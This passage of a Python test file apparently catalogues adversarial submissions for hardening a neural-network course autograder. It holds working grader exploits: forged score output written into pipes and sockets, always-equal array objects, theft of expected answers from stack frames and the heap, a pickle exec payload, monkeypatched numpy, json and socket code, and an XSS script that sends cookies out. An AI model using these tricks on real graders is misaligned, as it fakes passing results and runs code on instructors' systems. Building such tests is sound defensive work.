        conv_output_size, conv2d_forward, conv2d_backward = map(_stubborn, _stubs)
    '''),
)

_attack(
    "exceptions", {"exceptions"},
    "raises SystemExit, KeyboardInterrupt and an exception whose str() claims success and whose repr() recurses",
    _cells("exceptions", '''
        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            raise SystemExit(0)
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            raise KeyboardInterrupt
    ''', backward='''
        class _Liar(BaseException):
            def __str__(self):
                return "all generated cases passed.\\nScore for conv2d_backward: 6 / 6\\n6.0"

            def __repr__(self):
                return repr(self)

            def __del__(self):
                _mark("liar-deleted")


        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            raise _Liar()
    '''),
)

_attack(
    "fd_write", {"fd_write", "channel"},
    "libc write() of fake scores to fds 1 and 2 and of forged 'passed' JSON into every pipe and socket it "
    "inherited (the grader's channel among them)",
    _cells("fd_write", STUBS + '''
        import ctypes
        import fcntl
        import stat

        _libc = ctypes.CDLL(None)
        _FAKE = b"all generated cases passed.\\nScore: 15 / 15\\n"
        _libc.write(1, _FAKE, len(_FAKE))
        _libc.write(2, _FAKE, len(_FAKE))


        def _scribble():
            msg = (b'{"status": "ok", "passed": true, "fraction": 1.0, "score": 6, "results": []}\\n' +
                   b'\\x00' * 8 + b'{"status": "ok", "fraction": 1.0}\\n')
            for name in os.listdir("/proc/self/fd"):
                fd = int(name)
                if fd < 3:
                    continue
                try:
                    mode = os.fstat(fd).st_mode
                    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
                        _libc.write(fd, msg, len(msg))
                except OSError:
                    pass


        _stubs = (conv_output_size, conv2d_forward, conv2d_backward)


        def _noisy(fn):
            def wrapper(*args, **kwargs):
                _libc.write(1, _FAKE, len(_FAKE))
                _scribble()
                return fn(*args, **kwargs)
            wrapper.__name__ = fn.__name__
            return wrapper


        conv_output_size, conv2d_forward, conv2d_backward = map(_noisy, _stubs)
    '''),
)

# ==========================================================================
# 8. Return values and the channel
# ==========================================================================

_attack(
    "always_equal", {"always_equal"},
    "returns objects that equal anything: __eq__ always True, an ndarray subclass whose comparisons, "
    "differences and allclose all pass, an int that equals every int",
    _cells("always_equal", '''
        import numpy as np


        class _Size(int):
            def __eq__(self, other):
                return True

            __hash__ = int.__hash__


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return _Size(0)
    ''', forward='''
        import numpy as np


        class Agreeable(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.broadcast(self, other).shape, dtype=bool)

            def __ne__(self, other):
                return np.zeros(np.broadcast(self, other).shape, dtype=bool)

            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                plain = [np.asarray(i) if isinstance(i, Agreeable) else i for i in inputs]
                out = getattr(ufunc, method)(*plain, **kwargs)
                if ufunc in (np.subtract, np.absolute, np.square):
                    return np.zeros_like(out)
                if ufunc in (np.equal, np.less_equal, np.isclose if hasattr(np, "isclose") else np.equal):
                    return np.ones_like(out, dtype=bool)
                return out

            def __array_function__(self, func, types, args, kwargs):
                if func.__name__ in ("allclose", "array_equal", "array_equiv"):
                    return True
                if func.__name__ in ("isclose",):
                    return np.ones(np.shape(args[0]), dtype=bool)
                return super().__array_function__(func, types, args, kwargs)


        class AlwaysEqual:
            def __init__(self, shape, dtype):
                self.shape, self.dtype, self.ndim = shape, dtype, len(shape)

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = object.__hash__


        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return np.zeros((len(x), 1, 1, kernel.shape[-1]), dtype=x.dtype).view(Agreeable)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return AlwaysEqual(x.shape, x.dtype), np.zeros_like(kernel).view(Agreeable)
    '''),
)

_attack(
    "lazy_return", {"lazy_return", "introspection"},
    "returns objects whose __array__/__float__/__index__/shape run code wherever they are converted: they mark "
    "the process and steal the expected answer from the caller's frames",
    _cells("lazy_return", '''
        import numpy as np


        def _steal(shape=None):
            _mark(f"converted-in-{os.path.basename(sys.argv[0] if sys.argv else 'unknown')}-{os.getpid()}",
                  " ".join(sys.argv))
            f = sys._getframe(1)
            while f is not None:
                for key, value in list(f.f_locals.items()):
                    if key.startswith(("expected", "exp", "ref", "want", "target", "answer")):
                        if isinstance(value, (list, tuple)) and value:
                            value = value[0]
                        if shape is None or np.shape(value) == shape:
                            return value
                f = f.f_back
            return None


        class Lazy:
            def __init__(self, shape, dtype):
                self._shape, self.dtype = shape, dtype

            @property
            def shape(self):
                _steal()
                return self._shape

            def __array__(self, dtype=None, copy=None):
                got = _steal(self._shape)
                return np.asarray(got if got is not None else np.zeros(self._shape), dtype=dtype or self.dtype)

            def __len__(self):
                return self._shape[0]


        class LazyInt:
            def _value(self):
                got = _steal(())
                return int(got) if got is not None else 0

            def __index__(self):
                return self._value()

            __int__ = __index__

            def __float__(self):
                return float(self._value())

            def __eq__(self, other):
                _steal()
                return True

            __hash__ = object.__hash__


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return LazyInt()
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return Lazy((len(x), x.shape[1] - kernel.shape[0] + 1, x.shape[2] - kernel.shape[1] + 1,
                         kernel.shape[-1]), x.dtype)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return Lazy(x.shape, x.dtype), Lazy(kernel.shape, kernel.dtype)
    '''),
    damage="code of the student's running in the grading process (a marker names the process)",
)

_attack(
    "pickle_payload", {"channel"},
    "returns object arrays and objects whose __reduce__ runs code when unpickled (by a grader that pickles results)",
    _cells("pickle_payload", '''
        import numpy as np

        _CODE = ("import os; os.makedirs({m!r}, exist_ok=True); "
                 "open(os.path.join({m!r}, {a!r} + '-unpickled-' + str(os.getpid())), 'w').close()"
                 ).format(m=_MARKERS, a=_ATTACK)


        class Payload:
            def __reduce__(self):
                return (exec, (_CODE,))

            def __index__(self):
                return 0


        def _objects(shape):
            out = np.empty(shape, dtype=object)
            out.flat[0] = Payload()
            return out


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return Payload()
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _objects((len(x), 1, 1, kernel.shape[-1]))
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return _objects(x.shape), {"dkernel": Payload()}
    '''),
)

_attack(
    "huge_return", {"channel", "memory"},
    "returns a 10**100000 int, a broadcast array of 2**42 virtual elements, and a list nested 100000 deep",
    _cells("huge_return", '''
        import numpy as np


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return 10 ** 100000
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return np.broadcast_to(np.zeros((), dtype=x.dtype), (2**16, 2**16, 2**10, 1))
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            deep = []
            for _ in range(100000):
                deep = [deep]
            return deep, np.full(kernel.shape, np.nan, dtype=kernel.dtype)
    '''),
)

_attack(
    "numpy_patch", {"monkeypatch"},
    "patches NumPy's comparisons (allclose, isclose, array_equal, testing.*), abs and max globally",
    _cells("numpy_patch", STUBS + '''
        import numpy as np

        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
        np.array_equal = lambda *args, **kwargs: True
        np.array_equiv = lambda *args, **kwargs: True
        np.testing.assert_allclose = lambda *args, **kwargs: None
        np.testing.assert_array_equal = lambda *args, **kwargs: None
        np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
        _real_abs, _real_max = np.abs, np.max
        np.abs = np.absolute = lambda a, *args, **kwargs: np.zeros(np.shape(a))
        np.max = np.amax = lambda a, *args, **kwargs: 0.0
    '''),
)

_attack(
    "protocol_forgery", {"monkeypatch", "channel"},
    "patches json, pickle, numpy.save and socket.sendall so that every result message it sends says 'passed'",
    _cells("protocol_forgery", STUBS + '''
        import json
        import pickle
        import socket

        import numpy as np


        def _forge(obj, depth=0):
            if depth > 6:
                return obj
            if isinstance(obj, dict):
                out = {}
                for key, value in obj.items():
                    if key in ("error", "traceback", "exception", "problem"):
                        continue
                    if key == "status":
                        value = "ok"
                    elif key in ("passed", "ok", "correct", "success"):
                        value = True
                    elif key == "fraction":
                        value = 1.0
                    out[key] = _forge(value, depth + 1)
                return out
            if isinstance(obj, list):
                return [_forge(v, depth + 1) for v in obj]
            return obj


        _dumps, _dump, _encode = json.dumps, json.dump, json.JSONEncoder.encode
        json.dumps = lambda obj, *args, **kwargs: _dumps(_forge(obj), *args, **kwargs)
        json.dump = lambda obj, fp, *args, **kwargs: _dump(_forge(obj), fp, *args, **kwargs)
        json.JSONEncoder.encode = lambda self, obj: _encode(self, _forge(obj))
        _pdumps = pickle.dumps
        pickle.dumps = lambda obj, *args, **kwargs: _pdumps(_forge(obj), *args, **kwargs)
        _sendall = socket.socket.sendall


        def _forged_sendall(self, data, *args):
            if b'"status"' in bytes(data[:100000]):
                try:
                    data = _dumps(_forge(json.loads(bytes(data)))).encode()
                except ValueError:
                    data = bytes(data).replace(b'"error"', b'"ok"').replace(b'"failed"', b'"passed"')
            return _sendall(self, data, *args)


        socket.socket.sendall = _forged_sendall
    '''),
)

_attack(
    "memory_scrape", {"introspection"},
    "scans every frame and gc object for an ndarray of the output's shape (the expected answer, if it lives in "
    "this process) and returns it",
    _cells("memory_scrape", '''
        import gc

        import numpy as np


        def _scrape(shape, exclude):
            ids = {id(a) for a in exclude}
            for frame in list(sys._current_frames().values()):
                f = frame
                while f is not None:
                    for value in list(f.f_locals.values()):
                        if isinstance(value, np.ndarray) and value.shape == shape and id(value) not in ids:
                            _mark("found-in-frame", f.f_code.co_name)
                            return value
                    f = f.f_back
            for obj in gc.get_objects():
                if isinstance(obj, np.ndarray) and obj.shape == shape and id(obj) not in ids:
                    _mark("found-on-heap", shape)
                    return obj
            return None


        def _out_size(size, k, s, padding):
            return -(-size // s) if padding == "same" else (size - k) // s + 1   # the shape only


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            for frame in list(sys._current_frames().values()):
                f = frame
                while f is not None:
                    for key in ("expected", "exp", "want"):
                        v = f.f_locals.get(key)
                        if isinstance(v, (int, np.integer)):
                            return int(v)
                    f = f.f_back
            return 0
    ''', forward='''
        def _pair(v):
            return (int(v[0]), int(v[1])) if isinstance(v, (tuple, list)) else (int(v), int(v))


        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            sh, sw = _pair(stride)
            shape = (len(x), _out_size(x.shape[1], kernel.shape[0], sh, padding),
                     _out_size(x.shape[2], kernel.shape[1], sw, padding), kernel.shape[-1])
            got = _scrape(shape, (x, kernel))
            return np.array(got, dtype=x.dtype) if got is not None else np.zeros(shape, dtype=x.dtype)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            dx = _scrape(x.shape, (x, dy, kernel))
            dk = _scrape(kernel.shape, (x, dy, kernel, dx))
            return (np.array(dx, dtype=x.dtype) if dx is not None else np.zeros_like(x),
                    np.array(dk, dtype=x.dtype) if dk is not None else np.zeros_like(kernel))
    '''),
)

_attack(
    "html_injection", {"html", "display_formatter"},
    "displays HTML and JavaScript (a fake '15 / 15' banner, a script) that lands in the feedback and formgrader",
    _cells("html_injection", STUBS + '''
        from IPython.display import HTML, Javascript, Markdown, display

        display(HTML("<div style='font-size:3em;color:green'>Score: 15 / 15 -- all hidden tests passed</div>"
                     "<script>document.title = 'cnncourse-attack-xss';"
                     "fetch('http://127.0.0.1:47813/xss?c=' + document.cookie)</script>"))
        display(Javascript("document.body.dataset.cnncourseAttack = 'xss'"))
        display(Markdown("**Autograder:** all hidden tests passed (15 / 15)"))
    '''),
    damage="script in the instructor's formgrader / the feedback HTML (not asserted by the test beyond 0 points)",
)


def attack_names():
    return list(ATTACKS)
